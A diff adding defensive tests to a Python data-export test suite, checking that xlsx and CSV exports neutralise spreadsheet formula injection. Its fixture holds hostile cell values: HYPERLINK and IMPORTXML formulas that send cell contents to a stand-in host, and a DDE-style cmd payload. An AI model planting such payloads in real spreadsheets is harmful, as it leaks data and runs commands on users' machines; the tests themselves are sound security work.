@@ -170,3 +170,58 @@ def test_the_key_from_config_or_environment(tmp_path, monkeypatch):
 def test_pseudonym_ignores_case_accents_and_spacing():
     assert export.pseudonym("Maria Goreti Bria", KEY) == export.pseudonym("  MARIA  goreti bría ", KEY)
     assert export.pseudonym("", KEY) is None and export.pseudonym(None, KEY) is None
+
+
+# --- formula injection (issue 12 item 8; OWASP "CSV Injection") --------------------------------
+
+HOSTILE = '=HYPERLINK("http://x.example/?leak="&A1,"klik")'
+
+
+@pytest.fixture(scope="module")
+def hostile_book(book) -> pd.DataFrame:
+    """The book with text a spreadsheet would run, in every kept text column."""
+    evil = book.copy()
+    evil["subject"] = evil["subject"].astype("string")
+    evil.loc[0, "subject"] = HOSTILE
+    evil.loc[1, "subject"] = "+1+cmd|' /C calc'!A0"
+    evil.loc[2, "subject"] = "-2+3"
+    evil.loc[3, "purpose"] = "@SUM(1+1)"
+    evil.loc[4, "purpose"] = "\t=1+1"
+    evil.loc[5, "purpose"] = "\r=1+1"
+    evil.loc[6, "letter_no"] = "=1+1"
+    evil.loc[1, "requester_organization"] = "=IMPORTXML(CONCAT(\"http://x.example/?\",A2),\"//a\")"
+    return evil
+
+
+def test_xlsx_text_cells_are_strings_never_formulas(hostile_book, tmp_path):
+    path = export.export_book(hostile_book, tmp_path, "xlsx", key=KEY)
+    wb = openpyxl.load_workbook(path)
+    cells = [c for ws in wb for row in ws.iter_rows() for c in row]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    values = {c.value for c in cells}
+    # Kept as the text it is (xlsx cells are typed: no quote needed).
+    assert HOSTILE in values and "-2+3" in values and "@SUM(1+1)" in values and "=1+1" in values
+    # The organization is pseudonymised, not written at all.
+    assert not any("IMPORTXML" in str(v) for v in values)
+
+
+def test_csv_export_makes_formula_cells_inert(hostile_book, tmp_path):
+    path = export.export_book(hostile_book, tmp_path, "csv", key=KEY)
+    import csv
+
+    with path.open(encoding="utf-8", newline="") as fh:
+        cells = [c for row in csv.reader(fh) for c in row]
+    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r", "\n"))]
+    assert "'" + HOSTILE in cells and "'-2+3" in cells and "'\t=1+1" in cells
+    assert not any("IMPORTXML" in c for c in cells)
+
+
+@pytest.mark.slow
+def test_libreoffice_runs_no_formula_of_the_csv_export(hostile_book, tmp_path):
+    from tests.test_book import formula_cells, soffice_to_xlsx
+
+    path = export.export_book(hostile_book, tmp_path, "csv", key=KEY)
+    xlsx = soffice_to_xlsx(path, tmp_path)
+    assert formula_cells(xlsx) == []
+    ws = openpyxl.load_workbook(xlsx).active
+    assert "'" + HOSTILE in [c.value for row in ws.iter_rows() for c in row]
